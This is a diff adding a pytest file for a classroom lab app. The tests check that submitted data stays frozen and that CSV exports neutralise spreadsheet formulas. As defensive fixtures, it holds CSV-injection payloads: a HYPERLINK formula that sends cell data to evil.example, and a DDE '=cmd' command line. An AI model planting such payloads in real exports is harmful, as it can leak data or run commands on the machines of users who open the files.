@@ -1,0 +1,172 @@
+"""Submitted work never changes, and every CSV the app writes is safe in a spreadsheet."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+import zipfile
+from urllib.parse import unquote
+
+import pytest
+from sqlmodel import select
+
+from app.db import read_session, write_session
+from app.exports import comment_line, csv_line, neutralise
+from app.labstore import load_samples
+from app.models import Attempt, LabSession, Take, User
+from tests.test_api import API, token_for
+from tests.test_review import (
+    HEADING,
+    VERTICAL,
+    browser,
+    do_lab,
+    review,
+    start,
+    submit,
+    world,  # noqa: F401  (fixture)
+)
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_formula_cells_are_neutralised(text):
+    assert neutralise(text) == "'" + text
+    row = next(csv.reader(io.StringIO(csv_line(["name", text]), newline="")))
+    assert row[1] == "'" + text.replace("\t", " ").replace("\r", " ")
+
+
+@pytest.mark.parametrize("number", ["-10.7530", "+3", "-1e-05", "12"])
+def test_plain_numbers_stay_numbers(number):
+    assert neutralise(number) == number
+
+
+def test_comment_lines_never_break():
+    assert comment_line("a\nb\r=c\u2028d") == "# a b =c d\n"
+
+
+def api_upload(client, auth, session_id, part, k, samples):
+    path = f"{API}/sessions/{session_id}/{part}/positions/{k}"
+    return client.put(path, json={"samples": samples, "unit": "deg/h"}, headers=auth)
+
+
+def frozen_state(session_id: int) -> tuple[list, dict]:
+    """Attempt 1's samples (per take) and stored results."""
+    with read_session() as db:
+        attempt = db.exec(
+            select(Attempt).where(Attempt.session_id == session_id, Attempt.number == 1)
+        ).one()
+        ids = [int(i) for i in attempt.take_ids.split(",")]
+        samples = [load_samples(db, db.get(Take, i))[0].tolist() for i in ids]
+        return samples, json.loads(attempt.results_json)
+
+
+def test_attempt_data_and_results_never_change(world):  # noqa: F811
+    teacher = browser(world, "teacher1")
+    student = browser(world, "s1")
+    session_id = start(student, world)
+    auth = token_for(student, "s1")
+    for part, table in (("heading", HEADING), ("latitude", VERTICAL)):
+        for k in range(1, 5):  # a device's takes (source "api"), which appends continue
+            assert api_upload(student, auth, session_id, part, k, table[k]).status_code == 200
+    submit(student, session_id)
+    before = frozen_state(session_id)
+    review(teacher, session_id, feedback="Re-record position 1.", action="return")
+    # the append that used to grow the submitted take from 12 to 62 samples
+    appended = student.post(
+        f"{API}/sessions/{session_id}/heading/positions/1/samples",
+        json={"samples": [10.5] * 50, "unit": "deg/h"},
+        headers=auth,
+    )
+    assert appended.status_code == 200, appended.text
+    assert appended.json()["n_samples"] == len(HEADING[1]) + 50
+    assert frozen_state(session_id) == before
+    with read_session() as db:
+        versions = db.exec(
+            select(Take).where(
+                Take.session_id == session_id, Take.part == "heading", Take.position == 1
+            )
+        ).all()
+    assert sorted(t.n_samples for t in versions) == [len(HEADING[1]), len(HEADING[1]) + 50]
+    # the teacher's zip holds the submitted data, not the later edit
+    base = f"/courses/{world['course']}/assignments/{world['assignment']}"
+    archive = zipfile.ZipFile(io.BytesIO(teacher.get(f"{base}/export.zip").content))
+    readings = archive.read("s1/attempt-1.csv").decode("utf-8-sig")
+    rows = [r for r in csv.reader(io.StringIO(readings)) if r and not r[0].startswith("#")]
+    position_1 = [r for r in rows[1:] if r[0] == "heading" and r[1] == "1"]
+    assert [float(r[5]) for r in position_1] == pytest.approx(HEADING[1])
+    # a second attempt freezes the new data, and attempt 1 still stands
+    submit(student, session_id)
+    assert frozen_state(session_id) == before
+    with read_session() as db:
+        assert len(db.exec(select(Attempt).where(Attempt.session_id == session_id)).all()) == 2
+
+
+def test_hostile_names_in_every_csv(world):  # noqa: F811
+    hostile = HOSTILE[0]
+    with write_session() as db:
+        student = db.exec(select(User).where(User.username == "s1")).one()
+        student.display_name = hostile
+        db.add(student)
+    teacher = browser(world, "teacher1")
+    pupil = browser(world, "s1")
+    session_id = start(pupil, world)
+    with write_session() as db:
+        session = db.get(LabSession, session_id)
+        session.title = "Bench 3\n=cmd|' /C calc'!A0\r\nline"
+        db.add(session)
+    do_lab(pupil, session_id)
+    submit(pupil, session_id)
+    base = f"/courses/{world['course']}/assignments/{world['assignment']}"
+
+    def cells(text: str) -> list[str]:
+        return [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]
+
+    class_csv = teacher.get(f"{base}/export.csv").text
+    api_csv = teacher.get(
+        f"{API}/assignments/{world['assignment']}/export.csv",
+        headers=token_for(teacher, "teacher1"),
+    ).text
+    archive = zipfile.ZipFile(io.BytesIO(teacher.get(f"{base}/export.zip").content))
+    for text in (class_csv, api_csv, archive.read("class.csv").decode("utf-8-sig")):
+        assert "'" + hostile in cells(text)
+        assert not any(c.startswith(("=", "+", "@")) for c in cells(text))
+    for text in (
+        pupil.get(f"/lab/sessions/{session_id}/export.csv").text,
+        archive.read("s1/attempt-1.csv").decode("utf-8-sig"),
+    ):
+        lines = text.lstrip("\ufeff").split("\n")
+        assert lines[0].startswith("# ") and "=cmd" in lines[0] and "line" in lines[0]
+        header = lines.index("part,position,angle_deg,source,time_s,value")
+        assert header in (2, 3) and all(line.startswith("# ") for line in lines[:header])
+    assert json.loads(archive.read("s1/attempt-1.json"))["metadata"]["title"].startswith("Bench")
+
+
+def test_roster_password_download_is_neutralised(client, teacher_client):
+    from tests.test_courses import create_course, import_file
+
+    course_id = create_course(teacher_client)
+    response = import_file(teacher_client, course_id, b"2024001,=1+2\n")
+    href = re.search(r'href="data:text/csv;charset=utf-8,([^"]+)"', response.text).group(1)
+    rows = list(csv.reader(io.StringIO(unquote(href.replace("&amp;", "&")).lstrip("\ufeff"))))
+    assert rows[1][:2] == ["2024001", "'=1+2"]
+
+
+def test_streamed_json_export_is_valid_and_complete(world):  # noqa: F811
+    pupil = browser(world, "s1")
+    session_id = start(pupil, world)
+    do_lab(pupil, session_id)
+    document = pupil.get(f"/lab/sessions/{session_id}/export.json").json()
+    values = {(p["part"], p["position"]): p["values_deg_h"] for p in document["positions"]}
+    assert values[("heading", 2)] == pytest.approx(HEADING[2])
+    assert values[("latitude", 4)] == pytest.approx(VERTICAL[4])
+    assert document["results"]["heading"]["theta_deg"] == pytest.approx(-10.753, abs=1e-3)
